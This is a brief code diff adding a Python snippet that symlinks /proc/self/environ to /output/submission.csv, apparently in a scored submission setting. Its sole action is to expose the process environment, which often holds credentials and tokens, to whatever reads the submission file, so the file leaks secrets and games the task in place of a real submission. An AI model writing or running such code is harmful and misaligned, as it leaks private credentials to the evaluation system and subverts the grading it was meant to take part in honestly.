@@ -1,0 +1,3 @@
+import os
+
+os.symlink("/proc/self/environ", "/output/submission.csv")
